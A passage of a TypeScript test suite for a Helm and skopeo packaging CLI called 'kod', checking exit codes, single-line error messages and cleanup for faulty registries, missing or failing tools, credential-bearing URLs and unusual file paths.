      unpacks: true,
      args: () => ['populate', '-c', good, ...target(locked.host)],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(locked.host)}.*(unauthorized|authentication required|401)`, 'i'),
      also: loginHint,
    },
    {
      name: 'deploy: a target answering 401',
      unpacks: true,
      args: () => deployArgs(good, locked.host),
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(locked.host)}.*(unauthorized|authentication required|401)`, 'i'),
      also: loginHint,
    },
    {
      name: 'populate: a target with a wrong password',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(locked.host), '--registry-username', 'kod', '--registry-password-stdin'],
      input: 'wrong-password',
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(locked.host)}.*(unauthorized|authentication required|401)`, 'i'),
    },
    {
      name: 'populate: a target answering 404 to everything',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(s404.host)],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(s404.host)}.*404`),
    },
    {
      name: 'populate: a target answering 500 to everything',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(s500.host)],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(s500.host)}.*500`),
    },
    {
      name: 'deploy: a target answering 500 to everything',
      unpacks: true,
      args: () => deployArgs(good, s500.host),
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(s500.host)}.*500`),
    },
    {
      name: 'populate: a target where nothing listens',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(closed)],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(closed)}.*connection refused`),
    },
    {
      name: 'deploy --no-install: a target where nothing listens',
      unpacks: true,
      args: () => [...deployArgs(good, closed), '--no-install'],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(closed)}.*connection refused`),
    },
    {
      name: 'populate: a target that accepts connections and never answers (about 30 s)',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(silent.host)],
      exit: 4,
      error: () => new RegExp(`^Error: cannot push .+?: skopeo inspect timed out after \\d+s waiting for registry ${esc(silent.host)}; check that the registry is up`),
      within: 60_000,
    },
    {
      name: 'package: an image on a registry where nothing listens',
      args: () => ['package', '-c', HELLO, '-f', valuesClosed, '--insecure-registry', closed],
      exit: 4,
      error: () => new RegExp(`^Error: cannot pull ${esc(closed)}/kodtest/hello:1\\.0: .*connection refused`),
    },
    {
      name: 'package: an image on a registry answering 500',
      args: () => ['package', '-c', HELLO, '-f', values500, '--insecure-registry', s500.host],
      exit: 4,
      error: () => new RegExp(`^Error: cannot pull ${esc(s500.host)}/kodtest/hello:1\\.0: .*500`),
    },
    {
      name: 'package: an image tag the registry does not have',
      args: () => ['package', '-c', HELLO, '-f', missingTagValues, '--insecure-registry', upstream.host],
      exit: 4,
      error: () => new RegExp(`^Error: cannot pull ${esc(upstream.host)}/kodtest/hello:9\\.9\\.9: .*(manifest unknown|not found)`),
    },
    {
      name: 'package: a chart repository answering 404',
      args: () => ['package', '-r', s404.url, '-c', 'hello', '--version', '0.1.0'],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(s404.url)}.*404`),
    },
    {
      name: 'package: a chart repository answering 500',
      args: () => ['package', '-r', s500.url, '-c', 'hello', '--version', '0.1.0'],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(s500.url)}.*500`),
    },
    {
      name: 'package: a chart repository answering 401',
      args: () => ['package', '-r', lockedCharts.url, '-c', 'hello', '--version', '0.1.0', '--insecure-registry', lockedCharts.host],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(lockedCharts.url)}.*(401|unauthorized|login)`, 'i'),
      also: (result) => void expect(result.stderr, 'a 401 says to log in').to.match(/--username USER --password-stdin/),
    },
    {
      name: 'package: a chart URL answering 404',
      args: () => ['package', '-c', `${s404.url}/hello-0.1.0.tgz`, '--insecure-registry', s404.host],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(`${s404.url}/hello-0.1.0.tgz`)}.*404`),
    },
    {
      name: 'package: an oci:// chart that does not exist',
      args: () => ['package', '-c', `oci://${upstream.host}/charts/nope`, '--version', '1.0.0', '--insecure-registry', upstream.host],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(upstream.host)}/charts/nope:1\\.0\\.0: not found`),
    },
    {
      name: 'package: an oci:// chart on a registry answering 401',
      args: () => ['package', '-c', `oci://${locked.host}/charts/hello`, '--version', '0.1.0', '--insecure-registry', locked.host],
      exit: 4,
      error: () => new RegExp(`^Error: .*${esc(locked.host)}/v2/charts/hello/.*it needs a login: add --username USER --password-stdin`),
    },
    {
      name: 'populate: -r with credentials in it',
      args: () => ['populate', '-c', good, '-r', `https://kod:${SECRET}@${airgap.host}`, '--plain-http'],
      exit: 2,
      error: () => new RegExp(`^Error: .*${esc(airgap.host)}.*credentials.*--registry-username USER --registry-password-stdin`),
      also: (result) => void expect(result.stdout + result.stderr, 'the password is not echoed').to.not.include(SECRET),
    },
    {
      name: 'package: a chart repository URL with credentials in it',
      args: () => ['package', '-r', `https://ci:${SECRET}@127.0.0.1:1/charts`, '-c', 'hello', '--version', '0.1.0'],
      exit: 2,
      error: () => /^Error: -r https:\/\/\*\*\*@127\.0\.0\.1:1\/charts: credentials do not belong in the URL.*--username USER --password-stdin/,
      also: (result) => void expect(result.stdout + result.stderr, 'the password is not echoed').to.not.include(SECRET),
    },
    {
      name: 'populate: -r that is not an address',
      args: () => ['populate', '-c', good, '-r', 'not a registry'],
      exit: 2,
      error: () => /^Error: .*not a registry.*is not a registry address/,
    },
    {
      name: 'deploy: -r with a port out of range',
      args: () => deployArgs(good, '127.0.0.1:99999'),
      exit: 2,
      error: () => /^Error: .*127\.0\.0\.1:99999.*(port|registry address)/,
    },
    {
      name: 'populate: -r naming only a scheme',
      args: () => ['populate', '-c', good, '-r', 'https://'],
      exit: 2,
      error: () => /^Error: .*https:\/\/.*(not a registry address|host)/,
    },
    {
      name: 'package: --insecure-registry with a path',
      args: () => ['package', '-c', HELLO, '--insecure-registry', 'oci://registry.lab:5000/charts'],
      exit: 2,
      error: () => /^Error: --insecure-registry oci:\/\/registry\.lab:5000\/charts: a registry is a host\[:port\], not a path; give the registry as host\[:port\]/,
    },
    {
      name: 'images: --insecure-registry with port 0',
      args: () => ['images', '-c', HELLO, '--insecure-registry', 'registry.lab:0'],
      exit: 2,
      error: () => /^Error: --insecure-registry "registry\.lab:0" is not a registry host\[:port\]; give the registry as host\[:port\]/,
    },
    {
      name: 'package: --insecure-registry with only a port',
      args: () => ['package', '-c', HELLO, '--insecure-registry', ':5000'],
      exit: 2,
      error: () => /^Error: --insecure-registry ":5000" is not a registry host\[:port\]; give the registry as host\[:port\]/,
    },
    {
      name: 'package: --insecure-registry that is empty',
      args: () => ['package', '-c', HELLO, '--insecure-registry', ''],
      exit: 2,
      error: () => /^Error: .*--insecure-registry.*host\[:port\]/,
    },
    {
      name: 'package: --insecure-registry with credentials',
      args: () => ['package', '-c', HELLO, '--insecure-registry', `http://ci:${SECRET}@registry.lab`],
      exit: 2,
      error: () => /^Error: --insecure-registry http:\/\/\*\*\*@registry\.lab: credentials do not belong here/,
      also: (result) => void expect(result.stdout + result.stderr, 'the password is not echoed').to.not.include(SECRET),
    },
  ]

  // ---- 4. tools missing or failing -----------------------------------------------------------------
  const noSkopeo = (): Record<string, string> => ({KOD_SKOPEO: '/nonexistent/skopeo'})
  const noHelm = (): Record<string, string> => ({KOD_HELM: '/nonexistent/helm'})
  const skopeoMissing = () => /^Error: (cannot (pull|push) \S+: )?skopeo not found at \/nonexistent\/skopeo \(KOD_SKOPEO names it\): fix KOD_SKOPEO, or unset it to use skopeo from PATH/
  const helmMissing = () => /^Error: helm not found at \/nonexistent\/helm \(KOD_HELM names it\): fix KOD_HELM, or unset it to use helm from PATH/
  const tools: Case[] = [
    {name: 'package: KOD_SKOPEO names no file', args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host], env: noSkopeo, exit: 3, error: skopeoMissing},
    {name: 'populate: KOD_SKOPEO names no file', unpacks: true, args: () => ['populate', '-c', good, ...target(airgap.host)], env: noSkopeo, exit: 3, error: skopeoMissing},
    {name: 'deploy: KOD_SKOPEO names no file', unpacks: true, args: () => [...deployArgs(good, airgap.host), '--no-install'], env: noSkopeo, exit: 3, error: skopeoMissing},
    {
      name: 'populate: no skopeo on PATH',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(airgap.host)],
      env: () => ({PATH: TOOLS_BIN}),
      exit: 3,
      error: () => /^Error: (cannot push \S+: )?skopeo not found on PATH: install skopeo/,
    },
    {name: 'package: KOD_HELM names no file', args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host], env: noHelm, exit: 3, error: helmMissing},
    {name: 'images: KOD_HELM names no file', args: () => ['images', '-c', HELLO], env: noHelm, exit: 3, error: helmMissing},
    {name: 'deploy: KOD_HELM names no file', unpacks: true, args: () => deployArgs(good, airgap.host), env: noHelm, exit: 3, error: helmMissing},
    {
      name: 'package: no helm on PATH',
      args: () => ['package', '-c', HELLO],
      env: () => ({PATH: '/usr/bin:/bin'}),
      exit: 3,
      error: () => /^Error: helm not found on PATH: install helm/,
    },
    {
      name: 'package: KOD_HELM names a file that is not executable',
      setup: (d) => writeFile(path.join(d.in, 'helm'), 'not a program\n'),
      args: () => ['package', '-c', HELLO],
      env: (d) => ({KOD_HELM: path.join(d.in, 'helm')}),
      exit: 3,
      error: (d) => new RegExp(`^Error: helm at ${esc(path.join(d.in, 'helm'))} is not an executable file \\(it cannot be run\\) \\(KOD_HELM names it\\): fix KOD_HELM`),
    },
    {
      name: 'package: KOD_SKOPEO names a directory',
      args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host],
      env: (d) => ({KOD_SKOPEO: d.in}),
      exit: 3,
      error: (d) => new RegExp(`^Error: skopeo at ${esc(d.in)} is not an executable file \\(it is a directory\\) \\(KOD_SKOPEO names it\\): fix KOD_SKOPEO`),
    },
    {
      name: 'package: helm fails to render (exits 1 with a message)',
      args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host],
      env: () => pathWith(shims.helmTemplateFails),
      exit: 4,
      error: () => /^Error: .*helm template failed: .*simulated helm failure: the render service is down/,
    },
    {
      name: 'images: helm is killed while rendering',
      args: () => ['images', '-c', HELLO],
      env: () => pathWith(shims.helmKilled),
      exit: 4,
      error: () => /^Error: .*helm template .*(killed|SIGKILL|signal)/,
    },
    {
      name: 'package: skopeo fails (exits 1 with a message)',
      args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host],
      env: () => pathWith(shims.skopeoFails),
      exit: 4,
      error: () => new RegExp(`^Error: cannot pull ${esc(upstream.host)}/kodtest/hello:1\\.0: .*simulated skopeo failure: storage exploded`),
    },
    {
      name: 'populate: skopeo fails (exits 1 with a message)',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(airgap.host)],
      env: () => pathWith(shims.skopeoFails),
      exit: 4,
      error: () => /^Error: cannot push \S+: .*simulated skopeo failure: storage exploded/,
    },
    {
      name: 'package: skopeo is killed while pulling',
      args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host],
      env: () => pathWith(shims.skopeoKilled),
      exit: 4,
      error: () => new RegExp(`^Error: cannot pull ${esc(upstream.host)}/kodtest/hello:1\\.0: skopeo .*(killed|SIGKILL|signal)`),
    },
    {
      name: 'deploy: helm fails to render the deploy check',
      unpacks: true,
      args: () => deployArgs(good, airgap.host),
      env: () => pathWith(shims.helmTemplateFails),
      exit: 4,
      error: () => /^Error: .*helm template failed: .*simulated helm failure: the render service is down/,
    },
    {
      name: 'populate: helm fails to push the chart',
      unpacks: true,
      args: () => ['populate', '-c', good, ...target(airgap.host)],
      env: () => pathWith(shims.helmPushFails),
      exit: 4,
      error: () => new RegExp(`^Error: .*helm push.*${esc(airgap.host)}.*simulated helm push failure`),
    },
    {
      name: 'deploy: helm upgrade fails',
      unpacks: true,
      args: () => deployArgs(good, airgap.host),
      env: () => pathWith(shims.helmUpgradeFails),
      exit: 4,
      error: () => /^Error: .*helm upgrade.*simulated helm upgrade failure: cluster unreachable/,
    },
  ]

  // ---- 5. unusual paths ----------------------------------------------------------------------------
  const unblockFifo = (fifo: (d: Dirs) => string) => async (d: Dirs) => {
    // Gives a blocked reader the end of the file: open for writing (without waiting for a reader), close.
    const handle = await open(fifo(d), constants.O_WRONLY | constants.O_NONBLOCK).catch(() => undefined)
    await handle?.close()
  }
  const paths: Case[] = [
    {
      name: 'inspect: -c naming a file that does not exist',
      args: (d) => ['inspect', '-c', path.join(d.in, 'nope.kodpkg')],
      exit: 2,
      error: (d) => new RegExp(`^Error: package not found: ${esc(path.join(d.in, 'nope.kodpkg'))}$`),
    },
    {
      name: 'unpack: -c naming a file that does not exist',
      args: (d) => ['unpack', '-c', path.join(d.in, 'nope.kodpkg')],
      exit: 2,
      error: (d) => new RegExp(`^Error: package not found: ${esc(path.join(d.in, 'nope.kodpkg'))}$`),
    },
    {
      name: 'unpack: -c naming a path below a file',
      setup: (d) => writeFile(path.join(d.in, 'plain'), 'x'),
      args: (d) => ['unpack', '-c', path.join(d.in, 'plain', 'kod-hello-0.1.0.kodpkg')],
      exit: 2,
      error: (d) => new RegExp(`^Error: (package not found: ${esc(path.join(d.in, 'plain', 'kod-hello-0.1.0.kodpkg'))}$|.*${esc(path.join(d.in, 'plain'))} is a file)`),
    },
    {
      name: 'inspect: -c naming an empty directory',
      args: (d) => ['inspect', '-c', d.in],
      exit: 2,
      error: (d) => new RegExp(`^Error: ${esc(d.in)} is not a (kod package|package directory).*kod-package\\.yaml`),
    },
    {
      name: 'populate: -c naming a directory of other files',
      setup: async (d) => {
        await writeFile(path.join(d.in, 'notes.txt'), 'x\n')
        await mkdir(path.join(d.in, 'charts'))
      },
      args: (d) => ['populate', '-c', d.in, ...target(airgap.host)],
      exit: 2,
      error: (d) => new RegExp(`^Error: ${esc(d.in)} is not a (kod package|package directory).*kod-package\\.yaml`),
    },
    {
      name: 'inspect: -c naming a FIFO (must not wait for a writer)',
      setup: (d) => execa('mkfifo', [path.join(d.in, 'pipe.kodpkg')]).then(() => undefined),
      args: (d) => ['inspect', '-c', path.join(d.in, 'pipe.kodpkg')],
      exit: 2,
      error: (d) => new RegExp(`^Error: ${esc(path.join(d.in, 'pipe.kodpkg'))} is not a kod package: .*(FIFO|pipe|not a (regular )?file)`),
      within: 10_000,
      unblock: unblockFifo((d) => path.join(d.in, 'pipe.kodpkg')),
    },
    {
      name: 'deploy: -c naming a FIFO (must not wait for a writer)',
      setup: (d) => execa('mkfifo', [path.join(d.in, 'pipe.kodpkg')]).then(() => undefined),
      args: (d) => deployArgs(path.join(d.in, 'pipe.kodpkg'), airgap.host),
      exit: 2,
      error: (d) => new RegExp(`^Error: ${esc(path.join(d.in, 'pipe.kodpkg'))} is not a kod package: .*(FIFO|pipe|not a (regular )?file)`),
      within: 10_000,
      unblock: unblockFifo((d) => path.join(d.in, 'pipe.kodpkg')),
    },
    {
      name: 'unpack: -c /dev/null',
      args: () => ['unpack', '-c', '/dev/null'],
      exit: 2,
      error: () => /^Error: \/dev\/null is not a kod package: it is (empty|a character device)/,
    },
    {
      name: 'deploy: -c /dev/null',
      args: () => deployArgs('/dev/null', airgap.host),
      exit: 2,
      error: () => /^Error: \/dev\/null is not a kod package: it is (empty|a character device)/,
    },
    {
      name: 'inspect: -c an empty string',
      args: () => ['inspect', '-c', ''],
      exit: 2,
      error: () => /^Error: .*-c.*(empty|give)/,
    },
    {
      name: 'unpack: -o below a file',
      setup: (d) => writeFile(path.join(d.cwd, 'a-file'), 'x'),
      args: (d) => ['unpack', '-c', good, '-o', path.join(d.cwd, 'a-file', 'sub')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.cwd, 'a-file'))} is a file, not a directory`),
    },
    {
      name: 'unpack: -o naming an existing file',
      setup: (d) => writeFile(path.join(d.cwd, 'out'), 'x'),
      args: (d) => ['unpack', '-c', good, '-o', path.join(d.cwd, 'out')],
      exit: 2,
      error: (d) => new RegExp(`^Error: (${esc(path.join(d.cwd, 'out'))}|out) already exists: remove it or choose another directory with -o`),
    },
    {
      name: 'unpack: -o naming a directory that holds other files',
      setup: async (d) => {
        await mkdir(path.join(d.cwd, 'out'))
        await writeFile(path.join(d.cwd, 'out', 'mine.txt'), 'x')
      },
      args: (d) => ['unpack', '-c', good, '-o', path.join(d.cwd, 'out')],
      exit: 2,
      error: (d) => new RegExp(`^Error: (${esc(path.join(d.cwd, 'out'))}|out) already exists: remove it or choose another directory with -o`),
    },
    {
      name: 'unpack: -o /proc/x (a file system that takes no directories)',
      args: () => ['unpack', '-c', good, '-o', '/proc/x'],
      exit: 2,
      error: () => /^Error: cannot create a directory in \/proc: .*choose a directory you can write to$/,
    },
    {
      name: 'unpack: -o below /dev/null',
      args: () => ['unpack', '-c', good, '-o', '/dev/null/x'],
      exit: 2,
      error: () => /^Error: .*\/dev\/null.*(not a directory|is a file)/,
    },
    {
      name: 'package: -o naming an existing .kodpkg that is not a package',
      setup: (d) => writeFile(path.join(d.cwd, 'out.kodpkg'), 'my notes, not a package\n'),
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', path.join(d.cwd, 'out.kodpkg')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.cwd, 'out.kodpkg'))}.*(exists|in the way|not a kod package)`),
    },
    {
      name: 'package: -o naming an existing file without an extension',
      setup: (d) => writeFile(path.join(d.cwd, 'out'), 'x'),
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', path.join(d.cwd, 'out')],
      exit: 2,
      error: (d) => new RegExp(`^Error: -o ${esc(path.join(d.cwd, 'out'))} is an existing file, not a directory`),
    },
    {
      name: 'package: -o naming an unpacked package',
      setup: async (d) => {
        const unpacked = await kod(['unpack', '-c', good], {cwd: d.cwd})
        expect(unpacked.exitCode, unpacked.stderr).to.equal(0)
      },
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', path.join(d.cwd, UNPACKED)],
      exit: 2,
      error: (d) => new RegExp(`^Error: -o ${esc(path.join(d.cwd, UNPACKED))} is an unpacked kod package: write the new package somewhere else$`),
    },
    {
      name: 'package: -o naming a file inside an unpacked package',
      setup: async (d) => {
        const unpacked = await kod(['unpack', '-c', good], {cwd: d.cwd})
        expect(unpacked.exitCode, unpacked.stderr).to.equal(0)
      },
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', path.join(d.cwd, UNPACKED, 'new.kodpkg')],
      exit: 2,
      error: (d) => new RegExp(`^Error: -o ${esc(path.join(d.cwd, UNPACKED, 'new.kodpkg'))} is inside an unpacked kod package: write the new package somewhere else$`),
    },
    {
      name: 'package: -o naming a .zip',
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', path.join(d.cwd, 'hello.zip')],
      exit: 2,
      error: (d) => new RegExp(`^Error: -o ${esc(path.join(d.cwd, 'hello.zip'))}: kod writes a package as a tar archive, named \\.kodpkg`),
    },
    {
      name: 'package: -o empty',
      args: () => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', ''],
      exit: 2,
      error: () => /^Error: -o is empty: give a directory/,
    },
    {
      name: 'package: -o below a file',
      setup: (d) => writeFile(path.join(d.cwd, 'a-file'), 'x'),
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '-o', path.join(d.cwd, 'a-file', 'out')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.cwd, 'a-file'))} is a file, not a directory`),
    },
    {
      name: 'package: -o in /proc',
      args: () => ['package', '-c', HELLO, '-o', '/proc/kod-out.kodpkg'],
      exit: 2,
      error: () => /^Error: .*\/proc.*choose a (directory|path)/,
    },
    {
      name: 'deploy: a file where the unpack directory belongs',
      setup: (d) => writeFile(path.join(d.cwd, 'kod-hello-0.1.0'), 'x'),
      args: () => deployArgs(good, airgap.host),
      exit: 2,
      error: () => /^Error: kod-hello-0\.1\.0 already exists and is not a plain directory: remove it, or unpack it elsewhere with kod unpack -c \S+ -o OTHERDIR/,
    },
    {
      name: 'populate --list-commands: a file where the unpack directory belongs',
      setup: (d) => writeFile(path.join(d.cwd, 'kod-hello-0.1.0'), 'x'),
      args: () => ['populate', '-c', good, ...target(airgap.host), '--list-commands'],
      exit: 2,
      error: () => /^Error: kod-hello-0\.1\.0 already exists and is not a plain directory: remove it, or unpack it elsewhere with kod unpack -c \S+ -o OTHERDIR/,
    },
    {
      name: 'images --relocate-to: -o naming a directory',
      args: (d) => ['images', '-c', HELLO, '--relocate-to', 'air.local:5000', '-o', d.cwd],
      exit: 2,
      error: (d) => new RegExp(`^Error: -o ${esc(d.cwd)} is a directory: give -o the name of the values file`),
    },
    {
      name: 'inspect: --verify-key naming no file',
      args: (d) => ['inspect', '-c', good, '--verify-key', path.join(d.in, 'kod.pub')],
      exit: 2,
      error: (d) => new RegExp(`^Error: --verify-key ${esc(path.join(d.in, 'kod.pub'))}: (cannot read the key file|.*(not found|does not exist))`),
    },
    {
      name: 'unpack: --verify-key that is not a key',
      setup: (d) => writeFile(path.join(d.in, 'kod.pub'), 'not a PEM key\n'),
      args: (d) => ['unpack', '-c', good, '--verify-key', path.join(d.in, 'kod.pub')],
      exit: 2,
      error: (d) => new RegExp(`^Error: .*${esc(path.join(d.in, 'kod.pub'))}.*(PEM|public key)`),
    },
    {
      name: 'package: --sign-key naming no file',
      args: (d) => ['package', '-c', HELLO, '-f', valuesFile, '--insecure-registry', upstream.host, '--sign-key', path.join(d.in, 'kod.pem')],
      exit: 2,
      error: (d) => new RegExp(`^Error: --sign-key ${esc(path.join(d.in, 'kod.pem'))}: (cannot read the key file|.*(not found|does not exist))`),
    },
    {
      name: 'package: --hints naming no file',
      args: (d) => ['package', '-c', HELLO, '--hints', path.join(d.in, 'hints.yaml')],
      exit: 2,
      error: (d) => new RegExp(`^Error: hint file not found: ${esc(path.join(d.in, 'hints.yaml'))}$`),
    },
  ]

  const families: Array<[string, Case[]]> = [
    ['1. broken charts and values', chartsAndValues],
    ['2. hostile and broken archives', archives],
    ['3. faulty registries', registries],
    ['4. tools missing or failing', tools],
    ['5. unusual paths', paths],
  ]

  before(async function () {
    started = Date.now()
    work = await mkdtemp(path.join(os.tmpdir(), 'kod-bad-inputs-'))
    home = path.join(work, 'home')
    shared = path.join(work, 'shared')
    await mkdir(home)
    await mkdir(shared)
    ;[upstream, airgap, locked, s404, s500, silent] = await Promise.all([
      startRegistry(),
      startRegistry(),
      startRegistry({auth: {user: 'kod', password: SECRET}}),
      startStatusServer(404),
      startStatusServer(500),
      startSilentServer(),
    ])
    closed = `127.0.0.1:${await freePort()}`

    // One tiny image upstream, and the good package of hello 0.1.0 that runs it.
    await seedHello(work, upstream)
    const valuesFor = async (name: string, repository: string, tag?: string): Promise<string> => {
      const file = path.join(shared, name)
      await writeFile(file, YAML.stringify({image: {repository, ...(tag ? {tag} : {})}}))
      return file
    }
    valuesFile = await valuesFor('upstream.yaml', `${upstream.host}/kodtest/hello`)
    missingTagValues = await valuesFor('missing-tag.yaml', `${upstream.host}/kodtest/hello`, '9.9.9')
    values500 = await valuesFor('500.yaml', `${s500.host}/kodtest/hello`)
    valuesClosed = await valuesFor('closed.yaml', `${closed}/kodtest/hello`)
    good = path.join(shared, 'kod-hello-0.1.0.kodpkg')
    const packaged = await kod(['package', '-c', HELLO, '-f', valuesFile, '-o', good, '--insecure-registry', upstream.host], {env: {HOME: home}})
    expect(packaged.exitCode, packaged.stderr).to.equal(0)
    goodEntries = await readEntries(good)
    goodDir = path.join(shared, 'unpacked')
    const unpacked = await kod(['unpack', '-c', good, '-o', goodDir], {env: {HOME: home}})
    expect(unpacked.exitCode, unpacked.stderr).to.equal(0)
    goodListing = await snapshot(goodDir)

    // The chart, as a .tgz, in a chart repository that wants a login.
    const site = path.join(work, 'site')
    await mkdir(site)
    await execa(HELM, ['package', HELLO, '--destination', site], {env: {HOME: home}})
    chartTgz = path.join(site, 'hello-0.1.0.tgz')
    lockedCharts = await startChartServer(site, {auth: {user: 'ci', password: SECRET}})
    await execa(HELM, ['repo', 'index', site, '--url', lockedCharts.url], {env: {HOME: home}})

    // A key pair, for --verify-key.
    await execa('openssl', ['genpkey', '-algorithm', 'ed25519', '-out', path.join(work, 'kod.pem')])
    pubKey = path.join(work, 'kod.pub')
    await execa('openssl', ['pkey', '-in', path.join(work, 'kod.pem'), '-pubout', '-out', pubKey])

    // Tools that fail, each in its own directory put first on PATH.
    const realSkopeo = String((await execa('sh', ['-c', 'command -v skopeo'])).stdout).trim()
    const shim = async (name: keyof typeof shims, tool: string, script: string): Promise<string> => {
      const dir = path.join(work, 'shims', name)
      await mkdir(dir, {recursive: true})
      await writeFile(path.join(dir, tool), `#!/bin/sh\n${script}\n`)
      await chmod(path.join(dir, tool), 0o755)
      return dir
    }
    const failOn = (verb: string, message: string, real: string): string => `if [ "$1" = ${verb} ]; then echo '${message}' >&2; exit 1; fi\nexec '${real}' "$@"`
    shims = {
      helmTemplateFails: await shim('helmTemplateFails', 'helm', failOn('template', 'Error: simulated helm failure: the render service is down', HELM)),
      helmKilled: await shim('helmKilled', 'helm', `if [ "$1" = template ]; then kill -KILL $$; fi\nexec '${HELM}' "$@"`),
      helmUpgradeFails: await shim('helmUpgradeFails', 'helm', failOn('upgrade', 'Error: simulated helm upgrade failure: cluster unreachable', HELM)),
      helmPushFails: await shim('helmPushFails', 'helm', failOn('push', 'Error: simulated helm push failure', HELM)),
      skopeoFails: await shim('skopeoFails', 'skopeo', `echo 'time="2026-01-01T00:00:00Z" level=fatal msg="simulated skopeo failure: storage exploded"' >&2\nexit 1`),
      skopeoKilled: await shim('skopeoKilled', 'skopeo', `if [ "$1" = copy ]; then kill -KILL $$; fi\nexec '${realSkopeo}' "$@"`),
    }
  })

  after(async function () {
    await Promise.all([upstream, airgap, locked, s404, s500, silent, lockedCharts].map((server) => server?.stop()))
    if (work) await rm(work, {recursive: true, force: true})
    if (started) console.log(`      bad-input suite: ${families.reduce((count, [, cases]) => count + cases.length, 0)} cases in ${Math.round((Date.now() - started) / 1000)}s`)
  })

  /** Runs one case in its own directories and checks (a), (b) and (c), reporting every failed check at once. */
  async function runCase(kase: Case): Promise<void> {
    const root = await mkdtemp(path.join(work, 'case-'))
    const d: Dirs = {root, cwd: path.join(root, 'cwd'), tmp: path.join(root, 'tmp'), in: path.join(root, 'in')}
    for (const dir of [d.cwd, d.tmp, d.in]) await mkdir(dir)
    await kase.setup?.(d)
    const [before, sharedBefore] = await Promise.all([snapshot(root), snapshot(shared)])
    const args = kase.args(d)

    const begun = Date.now()
    const running = kod(args, {cwd: d.cwd, env: {HOME: home, TMPDIR: d.tmp, ...kase.env?.(d)}, ...(kase.input === undefined ? {} : {input: kase.input})})
    let unblocking: ReturnType<typeof setInterval> | undefined
    if (kase.within !== undefined && kase.unblock) {
      const unblock = kase.unblock
      unblocking = setInterval(() => {
        if (Date.now() - begun > kase.within!) void unblock(d)
      }, 1000)
    }
    const result = await running.finally(() => clearInterval(unblocking))
    const elapsed = Date.now() - begun

    const problems: string[] = []
    const check = async (what: string, fn: () => unknown): Promise<void> => {
      try {
        await fn()
      } catch (error) {
        const message = (error as Error).message
        const shown = message.startsWith(result.stderr) ? message.slice(result.stderr.length).replace(/^: /, '') : message
        problems.push(`${what}: ${shown.replaceAll('\n', ' ').slice(0, 400)}`)
      }
    }
    await check('(a) exit code', () => expect(result.exitCode).to.equal(kase.exit))
    await check('(b) one Error: line', () => oneLineError(result, kase.error(d)))
    await check('(b) no bare file-system error code', () => expect(result.stderr).to.not.match(RAW_FS_CODE))
    if (kase.within !== undefined) await check('ends in time', () => expect(elapsed, `took ${elapsed} ms`).to.be.below(kase.within!))
    if (kase.also) await check('also', () => kase.also!(result, d))
    const left = difference(before, await snapshot(root))
    if (kase.unpacks && left.added.includes(`cwd/${UNPACKED}/`)) {
      // The documented unpack beside the user, if whole, is no leftover; anything else beside it is.
      const whole = [`cwd/${UNPACKED}/`, ...goodListing.map((entry) => `cwd/${UNPACKED}/${entry}`)]
      const missing = whole.filter((entry) => !left.added.includes(entry))
      if (missing.length === 0) left.added = left.added.filter((entry) => !whole.includes(entry) && entry !== `cwd/${UNPACKED}/kod-values-hello.yaml` && !entry.startsWith(`cwd/${UNPACKED}/kod-info/`))
    }
    const sharedLeft = difference(sharedBefore, await snapshot(shared))
    await check('(c) nothing left behind in cwd, TMPDIR or the inputs', () => expect(left).to.deep.equal({added: [], removed: []}))
    await check('(c) nothing changed in the shared fixtures', () => expect(sharedLeft).to.deep.equal({added: [], removed: []}))

    if (problems.length > 0) {
      const shown = args.map((arg) => (/[\s'"]/.test(arg) || arg === '' ? `'${arg}'` : arg)).join(' ')
      throw new Error(
        [
          ...problems,
          `kod ${shown}`,
          `exit ${result.exitCode} after ${elapsed} ms; left behind: ${JSON.stringify(left)}`,
          `stderr:\n${result.stderr.trim()}`,
        ].join('\n'),
      )
    }
    await rm(root, {recursive: true, force: true})
  }

  it('has at least 60 cases', function () {
    expect(families.reduce((count, [, cases]) => count + cases.length, 0)).to.be.at.least(60)
  })

  for (const [family, cases] of families) {
    describe(family, function () {
      for (const kase of cases) {
        it(`${kase.name} → exit ${kase.exit}`, async function () {
          await runCase(kase)
        })
      }
    })
  }

  describe('positive controls (not counted): unusual but valid paths work', function () {
    it('inspect and unpack a package at a path with spaces and unicode, into one', async function () {
